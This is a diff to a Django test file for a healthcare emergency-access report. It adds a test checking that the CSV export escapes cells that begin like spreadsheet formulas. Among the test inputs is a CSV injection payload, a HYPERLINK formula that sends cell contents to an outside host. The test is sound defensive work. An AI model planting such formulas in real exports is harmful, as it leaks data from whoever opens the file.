@@ -6,6 +6,7 @@ produces the patient's access report as a page, CSV and PDF."""
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import io
 
@@ -325,3 +326,23 @@ def test_opening_an_emergency_access_to_review_it_is_logged(make_actor, client_f
     assert AuditEvent.objects.filter(event_type="acute.review_read").count() == 2
     report = client.get(reverse("acute:access_report", args=[grant.patient_id])).content.decode()
     assert "opende een noodtoegang om die te beoordelen" in report
+
+
+def test_access_report_csv_neutralises_formulas(hap, make_actor, client_for):
+    """The emergency reason and names are free text: a cell that starts like a formula gets a
+    quote, so the CSV cannot run anything when opened in a spreadsheet."""
+    patient = CarePlanFactory().patient
+    reason = '=HYPERLINK("https://example.org/?x="&A1;"klik")'
+    hap.user.first_name = "@SUM(1+1)"
+    hap.user.save()
+    services.start_emergency_access(
+        hap, patient, reason_code=EmergencyReason.LIFE_THREATENING, reason=reason
+    )
+    access.open_acute_summary(hap, patient.pk)  # logged with the reason as given
+    client = client_for(make_actor(RoleCode.PRIVACY_OFFICER))
+    url = reverse("acute:access_report", args=[patient.pk]) + "?format=csv"
+    text = client.get(url).content.decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
+    assert "'" + reason in cells
+    assert any(cell.startswith("'@SUM(1+1)") for cell in cells)
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
